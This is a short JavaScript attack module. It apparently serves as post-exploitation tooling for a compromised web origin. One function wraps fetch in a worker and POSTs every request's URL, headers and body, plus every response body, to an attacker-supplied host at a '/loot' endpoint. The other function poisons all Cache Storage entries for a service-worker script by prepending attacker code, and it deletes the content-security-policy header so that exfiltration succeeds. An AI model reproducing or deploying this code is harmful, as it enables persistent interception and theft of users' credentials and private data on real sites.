// What script that got in does to stand between the holder and the network, now or at a later visit.

/** Runs in a worker in front of everything else there: sends `to` whatever is fetched, and what came of it. */
export function tap(to) {
  const { fetch: real } = globalThis;
  const tell = (body) => real(`${to}/loot`, { method: "POST", mode: "no-cors", body });
  const tapped = async (input, init) => {
    const request = new Request(input, init);
    const sent = await request.clone().text();
    await tell(JSON.stringify([request.url, [...request.headers], sent]));
    const response = await real(request);
    await tell(await response.clone().text());
    return response;
  };
  return { fetch: tapped };
}

/**
 * Runs in the page: puts a holder into every cache of the origin that does what the real one does, and `tap` before that.
 * Resolves to how many places it has now.
 */
export async function plantHolder(evil, { path, prelude }) {
  const real = await fetch(path);
  const headers = new Headers(real.headers);
  // It has to reach the attacker.
  headers.delete("content-security-policy");
  const planted = new Response(`${prelude}\n${await real.text()}`, { headers });
  let count = 0;
  for (const name of await caches.keys()) {
    const cache = await caches.open(name);
    const known = (await cache.keys()).filter(({ url }) => new URL(url).pathname === path);
    for (const key of [path, ...known]) {
      await cache.put(key, planted.clone());
      count += 1;
    }
  }
  return count;
}
